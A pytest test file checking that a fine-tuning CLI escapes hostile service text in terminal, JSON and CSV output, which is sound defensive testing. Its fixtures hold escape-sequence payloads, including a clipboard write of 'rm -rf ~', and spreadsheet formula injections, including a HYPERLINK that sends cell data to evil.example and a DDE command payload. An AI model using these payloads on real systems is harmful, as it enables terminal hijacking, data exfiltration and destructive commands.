"""
Text from the service, whatever it is, is shown and never obeyed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
from collections.abc import Callable, Iterator
from io import StringIO, TextIOWrapper
from pathlib import Path
from typing import Any
from unicodedata import category

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from rich.text import Text

from dashscope_ft import Outcome, Report
from dashscope_ft.characters import printable
from dashscope_ft.cli.cleanup_report import report_lines
from dashscope_ft.cli.imports import IMPORT
from dashscope_ft.cli.jobs import JOB
from dashscope_ft.cli.kind import Column
from dashscope_ft.cli.table import details, table
from dashscope_ft.cli.terminal import say, write_lines
from dashscope_ft.cli.text import csv_line, json_text
from dashscope_ft.emulator import Emulator, Fault
from dashscope_ft.errors import NotFound

from . import conftest
from .conftest import Ran, Run, Terminal

FAKE = "ft-0 SUCCEEDED nothing-to-see"
"""A line of output that the service would like to write itself."""

EXAMPLES = int(os.environ.get("HOSTILE_TEXTS", "40"))
"""Texts of a property test; more of them on demand."""

TRICKS = {
    "clearing the screen": "\x1b[2J\x1b[H",
    "colours": "\x1b[95m",
    "hidden text": "\x1b[8m",
    "a link (OSC 8)": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard (OSC 52)": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "the title (OSC 0)": "\x1b]0;owned\x07",
    "a device's answer": "\x1b[6n\x1b[c\x1bP$qm\x1b\\",
    "other character sets": "\x1b(0\x0e\x0f",
    "a full reset": "\x1bc",
    "C1 controls": "\x9b2J\x9d0;owned\x9c\x90q\x9c\x85\x8d",
    "line breaks": f"\n{FAKE}\r\n{FAKE}\x0b{FAKE}\x0c",
    "other line breaks": f"\u2028{FAKE}\u2029",
    "overwriting": f"\r{FAKE}",
    "backspaces": "\b\b\b\b\x7f\x7f",
    "bells and zeros": "\a\0",
    "tabs": "\t\t",
    "bidirectional overrides": "\u202egnp.exe\u202d\u202a\u202b\u202c",
    "bidirectional isolates": "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "zero-width characters": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "invisible letters": "\u3164\u115f\u1160\uffa0\u034f\U000e0100\ufe00",
    "tags": "\U000e0001\U000e0041\U000e007f",
    "a flood of marks": "Z" + "\u0301\u0489\u20dd\u0336" * 30,
    "markup": "[red]x[/red][link=https://evil.example]y[/link][/][bold",
    "emoji codes": ":smile: :boom:",
    "braces": "{task.completed} %s %(x)s {0}",
}
POISON = "".join(TRICKS.values())

FIGURES = {"loss": 1.5, "epoch": 1.0}

OURS = re.compile(r"\x1b\[(?:0|1|2|1;3[1-6]|3[1-6])m")
"""How the command line colours."""

REDRAWING = re.compile(r"\x1b\[(?:\?25[lh]|1A|2K)|\r")
"""How a live display redraws itself."""

MARKS = re.compile("[\u0300-\u036f\u0483-\u0489\u20d0-\u20f0]{5}")
INVISIBLE = set("\u3164\u115f\u1160\uffa0\u034f\U000e0100\ufe00")


def hostile(text: str) -> list[str]:
    """
    Give what in an output could steer, hide, reorder or forge.
    """
    found = [
        f"U+{ord(each):04X}"
        for each in set(text) - {"\n"}
        if category(each) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or each in INVISIBLE
    ]
    found += ["a flood of marks"] if MARKS.search(text) else []
    return found + [line for line in text.split("\n") if line.startswith(FAKE)]


class Screen(TextIOWrapper):
    def isatty(self) -> bool:
        return True


def poisoned(value: Any, *, keep: tuple[str, ...] = ()) -> Any:
    """
    Put the poison into all text of a value, names of fields that are free included.
    """
    if isinstance(value, str):
        return value + POISON
    if isinstance(value, list):
        return [poisoned(each) for each in value]
    if isinstance(value, dict):
        return {name: poisoned(each) for name, each in value.items()}
    return value


@pytest.fixture
def poison(studio: Emulator) -> dict[str, str]:
    """
    An account all of whose text was written by an enemy. Gives the ids of some of its jobs.
    """
    account = studio.account()
    ids = studio.seed(jobs=6, imports=2, statuses=["SUCCEEDED"], import_statuses=["FAILED"])
    fine_tunes, imports = ids[:6], ids[6:]
    for job_id in fine_tunes[2:4]:
        account.set_status(job_id, "FAILED")
    for job in (*account.jobs.values(), *account.imports.values()):
        for name, value in list(job.items()):
            if name not in {"job_id", "status", "create_time", "gmt_create", "end_time"}:
                job[name] = poisoned(value)
        job |= {"job_name": POISON, "message": POISON, POISON: POISON, "priority": POISON}
    for job in account.jobs.values():
        job["hyper_parameters"] = {
            "n_epochs": POISON,
            POISON: POISON,
            "list": [POISON, {POISON: 1}],
        }
        job["workspace_id"] = POISON
    # An id that the service made up, one of its states, and a time that is none.
    account.jobs[fine_tunes[4]] |= {"status": f"BROKEN{POISON}", "create_time": POISON}
    account.jobs[fine_tunes[5]]["job_id"] = f"ft-{POISON}"
    for job_id in fine_tunes[:4]:
        line = {"loss": 1.5, "epoch": 1.0, f"x{POISON}": 2.0}
        account.set_log(job_id, [POISON, repr(line), json.dumps(line), repr(FIGURES)])
    rows = [
        {
            "checkpoint": f"checkpoint-{POISON}",
            "step": POISON,
            "status": POISON,
            "model_name": POISON,
            "create_time": POISON,
            "expire_time": POISON,
            "checkpoint_id": POISON,
        }
    ]
    studio.inject(
        Fault(operation="fine_tunes.checkpoints", times=None, body={"output": rows}),
        Fault(operation="*.create", times=None, body={"output": {"job_id": f"ft-{POISON}"}}),
    )
    return {
        "job": fine_tunes[0],
        "other": fine_tunes[1],
        "failed": fine_tunes[2],
        "strange": fine_tunes[4],
        "import": imports[0],
    }


CREATE = ("jobs", "create", "--model", "m", "--training-file", "f")
SHOWING: dict[str, tuple[str, ...]] = {
    "jobs list": ("jobs", "list"),
    "jobs show": ("jobs", "show", "{job}"),
    "jobs watch": ("jobs", "watch", "{job}", "--deadline", "1"),
    "jobs wait": ("jobs", "wait", "{failed}", "{other}", "--deadline", "1"),
    "jobs logs": ("jobs", "logs", "{job}"),
    "jobs compare": ("jobs", "compare", "{job}", "{other}"),
    "jobs checkpoints": ("jobs", "checkpoints", "{job}"),
    "jobs create": CREATE,
    "imports list": ("imports", "list"),
    "imports show": ("imports", "show", "{import}"),
    "imports wait": ("imports", "wait", "{import}", "--deadline", "1"),
    "cleanup plan": ("cleanup", "plan", "--status", "FAILED", "--status", "SUCCEEDED"),
    "cleanup plan of imports": ("cleanup", "plan", "imports"),
}
FORMS = ("table", "json", "jsonl", "csv")
WAYS: dict[str, dict[str, str]] = {
    "on a pipe": {},
    "in colour": {"TERM": "xterm-256color", "COLUMNS": "200"},
    "narrow, without colour": {"TERM": "xterm-256color", "COLUMNS": "40", "NO_COLOR": "1"},
}


JSON_ALWAYS = {"jobs create", "jobs watch"}
"""What has no CSV, and writes JSON instead."""

LINES = {"jobs watch"}
"""What writes JSON lines, whatever it is asked for."""


@pytest.fixture
def show(
    run: Run, poison: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> Callable[..., tuple[Ran, str]]:
    """
    Run a command in one of the ways, and give it back with what was seen of it, less our own
    colours.
    """

    def shown(way: str, *arguments: str) -> tuple[Ran, str]:
        with monkeypatch.context() as patch:
            if way != "on a pipe":
                patch.setattr(conftest, "TextIOWrapper", Screen)
            done = run(*(each.format(**poison) for each in arguments), **WAYS[way])
        seen = done.stdout + done.stderr
        if way == "in colour":
            seen = OURS.sub("", seen)
        if way != "on a pipe":
            seen = REDRAWING.sub("", seen)
        return done, seen

    return shown


@pytest.mark.once
def test_every_command_that_shows_text_of_the_service(
    show: Callable[..., tuple[Ran, str]], record_property: Callable[[str, object], None]
) -> None:
    """
    Nothing of it reaches a terminal as it came: in tables it is spelt out, on a pipe as on a
    terminal, with colour and without.
    """
    size, runs = 0, 0
    for name, arguments in SHOWING.items():
        for way in WAYS:
            done, seen = show(way, *arguments)
            size, runs = size + len(seen), runs + 1

            assert hostile(seen) == [], (name, way)
            assert done.returncode in (0, 1, 2, 5), (name, way, done)
            if way == "on a pipe":
                assert r"\x1b[2J" in seen, name
    record_property(
        "figure",
        f"{len(SHOWING)} commands, {runs} runs on pipes and terminals, {len(TRICKS)} tricks in "
        f"every field: 0 of {size:,} characters of output steer, hide, reorder or forge.",
    )


@pytest.mark.once
def test_every_command_as_data(
    show: Callable[..., tuple[Ran, str]], record_property: Callable[[str, object], None]
) -> None:
    """
    JSON holds all of it, escaped, and is JSON still; CSV has one record a line.
    """
    size, runs = 0, 0
    for name, arguments in SHOWING.items():
        for form in FORMS[1:]:
            done, seen = show("on a pipe", *arguments, "--output", form)
            size, runs = size + len(seen), runs + 1

            assert hostile(seen.replace("\r\n", "\n")) == [], (name, form)
            assert done.returncode in (0, 1, 2, 5), (name, form, done)
            if form == "csv":
                records = list(csv.reader(io.StringIO(done.stdout, newline="")))
                assert len({len(record) for record in records}) <= 1 or name in JSON_ALWAYS, name
                continue
            lines = (
                [done.stdout] if name not in LINES and form == "json" else done.stdout.splitlines()
            )
            values = [json.loads(line) for line in lines if line]
            if name != "jobs watch":
                assert any(POISON in text for text in strings(values)), name
    record_property(
        "figure",
        f"{runs} runs as JSON, JSON lines and CSV: 0 of {size:,} characters raw, all of it parses.",
    )


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for each in value:
            yield from strings(each)
    elif isinstance(value, dict):
        for name, each in value.items():
            yield name
            yield from strings(each)


ERRORS: dict[str, Fault] = {
    "envelope": Fault(
        times=None,
        status=400,
        body=json.dumps({"code": f"Bad{POISON}", "message": POISON, "request_id": POISON}),
    ),
    "known code": Fault(
        times=None,
        status=400,
        body=json.dumps({"code": f"AccessDenied{POISON}", "message": POISON}),
        headers={"x-request-id": "\x9b2J\xc2\x9b2J"},
    ),
    "other envelope": Fault(
        times=None, status=418, body={"error": {"message": POISON, "type": POISON}}
    ),
    "200": Fault(times=None, effect=False, body={"code": POISON, "msg": POISON}),
    "page": Fault(times=None, status=403, body=f"<html>{POISON}</html>"),
    "no JSON": Fault(times=None, effect=False, body=POISON),
    "other shape": Fault(times=None, effect=False, body={"output": POISON}),
    "rows of another shape": Fault(
        times=None,
        effect=False,
        body={"output": {"jobs": [{"job_id": [POISON]}], "list": [POISON]}},
    ),
}
FAILING = (
    ("jobs", "list"),
    ("jobs", "show", "ft-1"),
    ("jobs", "cancel", "ft-1", "ft-2", "--yes"),
    ("jobs", "delete", "ft-1", "--yes"),
    ("jobs", "logs", "ft-1"),
    ("jobs", "compare", "ft-1", "ft-2"),
    ("jobs", "checkpoints", "ft-1"),
    ("jobs", "export", "ft-1", "checkpoint-1", "--model-name", "m"),
    CREATE,
    ("imports", "list"),
    ("imports", "show", "i-1"),
    ("imports", "delete", "i-1", "--yes"),
    ("cleanup", "plan"),
    ("cleanup", "plan", "imports"),
)


@pytest.mark.once
def test_errors_in_the_words_of_the_service(
    run: Run,
    studio: Emulator,
    monkeypatch: pytest.MonkeyPatch,
    record_property: Callable[[str, object], None],
) -> None:
    """
    What the service says of a failure is spelt out as well, codes and request ids included.
    """
    size, runs = 0, 0
    for name, fault in ERRORS.items():
        studio.faults.clear()
        studio.inject(fault)
        # What is no refusal is asked for once more, after a pause that really passes.
        for arguments in FAILING if fault.status else FAILING[:2]:
            done = run(*arguments)
            seen = done.stdout + done.stderr
            size, runs = size + len(seen), runs + 1

            assert hostile(seen) == [], (name, arguments)
            assert done.returncode, (name, arguments)
            assert "Error: " in done.stderr
            if "envelope" in name:
                assert r"\x1b[2J" in done.stderr, arguments
        with monkeypatch.context() as patch:
            patch.setattr(conftest, "TextIOWrapper", Screen)
            done = run("jobs", "show", "ft-1", TERM="xterm-256color", COLUMNS="100")

        assert hostile(OURS.sub("", done.stderr)) == [], name
        assert "\x1b[31m" in done.stderr, name
    record_property(
        "figure",
        f"{len(ERRORS)} forms of hostile failure, up to {len(FAILING)} commands, {runs} runs: "
        f"0 of {size:,} characters of output steer, hide, reorder or forge.",
    )


@pytest.mark.once
def test_a_clean_up_of_hostile_jobs(
    terminal: Callable[..., Terminal], poison: dict[str, str], studio: Emulator, tmp_path: Path
) -> None:
    """
    The plan that somebody says yes to on a terminal, and the account of what came of it, hold
    nothing raw; neither do plan and journal.
    """
    message = json.dumps({"code": f"Bad{POISON}", "message": POISON, "request_id": POISON})
    studio.inject(Fault(operation="fine_tunes.delete", status=400, body=message))
    shown = terminal(
        *("cleanup", "run", "--status", "FAILED", "--save", str(tmp_path / "plan.json")),
        *("--max-percent", "100"),
        width=100,
    )
    shown.read_until("[y/N]")
    shown.type("y\n")
    code = shown.finish()
    # The terminal itself ends lines so, and repeats what is typed.
    seen = REDRAWING.sub("", OURS.sub("", shown.text))

    assert code == 5
    assert r"\x1b[2J" in seen
    assert hostile(re.sub(r"\x1b\[(?:35|90|38;5;\d+|38;2;[\d;]+)m", "", seen)) == []
    for file in tmp_path.glob("plan*"):
        assert "\x1b" not in file.read_text()


def test_the_tricks_themselves() -> None:
    """
    Each trick is seen where it is let through, so that to see none means something.
    """
    harmless = {"markup", "emoji codes", "braces"}
    seen = {name for name, trick in TRICKS.items() if hostile(trick)}

    assert seen == TRICKS.keys() - harmless
    assert all(not hostile(printable(trick)) for trick in TRICKS.values())
    assert printable(TRICKS["markup"]) == TRICKS["markup"]


texts = st.lists(
    st.sampled_from(list(TRICKS.values())) | st.text(st.characters(), max_size=8), max_size=6
).map("".join)


@settings(max_examples=EXAMPLES, deadline=None)
@given(id_=texts, first=texts, second=texts, width=st.none() | st.integers(1, 120))
def test_any_text_anywhere(id_: str, first: str, second: str, width: int | None) -> None:
    """
    Whatever the service writes into whichever field, no table, view or account of jobs passes
    any of it on raw.
    """
    row = {
        "job_id": f"ft-{id_}",
        "status": first,
        "model": second,
        "model_name": first,
        "job_name": first + second,
        "create_time": second,
        "gmt_create": first,
        first: [second, {second: first}],
    }
    error = NotFound(first, code=second, request_id=first)
    outcome = Outcome(
        job_id=f"ft-{id_}", action="delete", result="failed", reason="NotFound", error=error
    )
    stream = StringIO()
    screen = Console(
        file=stream, force_terminal=True, color_system="truecolor", markup=False, emoji=False,
        highlight=False, width=width or 80,
    )  # fmt: skip
    lines = [
        *table(JOB.columns, [row], width=width),
        *table(IMPORT.columns, [row], width=width),
        *table([Column(first, "job_id"), Column(second, "model")], [row], width=width),
        *details(row, width=width),
        *report_lines(Report(outcomes=(outcome,)), width=width),
    ]
    for line in lines:
        screen.print(line, soft_wrap=True)

    assert hostile(OURS.sub("", stream.getvalue())) == []


@settings(max_examples=EXAMPLES, deadline=None)
@given(texts, texts)
def test_any_text_as_data(first: str, second: str) -> None:
    """
    JSON gives any text back as it was and shows none of it raw; CSV keeps a record on a line.
    """
    value = {first: [second, None, {"x": first}]}
    for indent in (None, 2):
        text = json_text(value, indent=indent)

        assert json.loads(text) == value
        assert hostile(text) == []
    line = csv_line([first, second, [first]])

    assert hostile(line.removesuffix("\r\n")) == []
    assert len(next(csv.reader(io.StringIO(line, newline="")))) == 3


STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
BEFORE = ("", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", " \t ")
FORMULAS = [
    before + start + rest
    for start in STARTS
    for before in BEFORE
    for rest in ("1+1", 'HYPERLINK("https://evil.example?"&A1,"x")', "cmd|' /C calc'!A0", "")
]


@pytest.mark.parametrize("formula", ["=", "\t1", "\r1", "\n1", "+49 30", "-1", "@SUM(1)"])
def test_a_formula_keeps_the_rest(formula: str) -> None:
    """
    One apostrophe before it, and the value is as it was.
    """
    [[cell]] = csv.reader(io.StringIO(csv_line([formula]), newline=""))

    assert cell == "'" + printable(formula)


def test_formulas_in_every_csv(
    run: Run, studio: Emulator, record_property: Callable[[str, object], None]
) -> None:
    """
    In each command's CSV no cell begins what a spreadsheet runs, and each is otherwise whole.
    """
    account = studio.account()
    ids = studio.seed(jobs=len(FORMULAS), imports=2, statuses=["FAILED"])
    for job, formula in zip(account.jobs.values(), FORMULAS, strict=True):
        job |= {"job_name": formula, "model": formula, "message": formula, "code": formula}
        job |= {"hyper_parameters": {formula or "x": formula}, "creator": formula}
    for job in account.imports.values():
        job |= {"model_name": FORMULAS[0], "display_name": FORMULAS[1], "error_code": FORMULAS[2]}
    account.set_log(ids[0], FORMULAS)
    rows = [{"checkpoint": each, "model_name": each, "status": each} for each in FORMULAS]
    message = {"code": "=1", "message": "=1+1", "request_id": "@SUM(1)"}
    studio.inject(
        Fault(operation="fine_tunes.checkpoints", times=None, body={"output": rows}),
        Fault(operation="*.delete", times=None, status=400, body=message),
    )
    commands = [
        ("jobs", "list"),
        ("jobs", "show", ids[0]),
        ("jobs", "logs", ids[0]),
        ("jobs", "checkpoints", ids[0]),
        ("jobs", "compare", ids[0], ids[1]),
        ("jobs", "wait", ids[0]),
        ("jobs", "delete", ids[0], "--yes"),
        ("imports", "list"),
        ("imports", "show", ids[-1]),
        ("imports", "delete", ids[-1], "--yes"),
        ("cleanup", "plan"),
    ]
    cells: list[str] = []
    for command in commands:
        done = run(*command, "--output", "csv")
        found = [cell for row in csv.reader(io.StringIO(done.stdout, newline="")) for cell in row]
        cells += found

        assert len(found) > 1, command
    live = [cell for cell in cells if cell.lstrip().startswith(STARTS)]

    assert live == []
    assert {"'" + printable(formula) for formula in FORMULAS} <= set(cells)
    record_property(
        "figure",
        f"{len(FORMULAS)} formulas in every text field of {len(commands)} commands' CSV: "
        f"0 of {len(cells):,} cells live, each formula whole behind an apostrophe.",
    )


def test_words_on_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    """
    Words and lines are shown on either stream as they would be in a table.
    """
    say(POISON)
    write_lines([Text(printable(POISON))])
    write_lines([Text(printable(POISON))], sys.stderr, wrapped=True)
    out, err = capsys.readouterr()

    assert hostile(out) == []
    assert hostile(err) == []
    assert "[red]x[/red]" in out
    assert "[red]x[/red]" in err
